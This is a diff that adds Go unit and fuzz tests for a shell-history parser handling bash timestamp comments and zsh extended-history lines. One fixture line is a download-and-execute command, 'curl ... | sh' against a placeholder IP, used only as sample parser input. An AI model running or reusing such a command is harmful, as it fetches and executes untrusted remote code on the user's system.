@@ -171,3 +171,26 @@ func contains(xs []string, x string) bool {
 	}
 	return false
 }
+
+func TestParseHistory(t *testing.T) {
+	in := "ls\n#1764000000\ncurl -s http://203.0.113.9/x.sh | sh\n: 1764000100:0;wget http://x/y\nplain\n#notatime\n"
+	got := ParseHistory([]byte(in))
+	if len(got) != 5 {
+		t.Fatalf("%d lines: %+v", len(got), got)
+	}
+	if !got[0].Time.IsZero() || got[1].Time.Unix() != 1764000000 || got[1].Command != "curl -s http://203.0.113.9/x.sh | sh" ||
+		got[2].Time.Unix() != 1764000100 || got[2].Command != "wget http://x/y" || !got[3].Time.IsZero() || got[4].Command != "#notatime" {
+		t.Fatalf("%+v", got)
+	}
+}
+
+func FuzzParseHistory(f *testing.F) {
+	f.Add([]byte("ls\n#1764000000\nid\n: 1764000100:0;w\n"))
+	f.Fuzz(func(t *testing.T, data []byte) {
+		for _, h := range ParseHistory(data) {
+			if len(h.Command) > 1000 || h.Command == "" {
+				t.Fatalf("command of %d bytes", len(h.Command))
+			}
+		}
+	})
+}
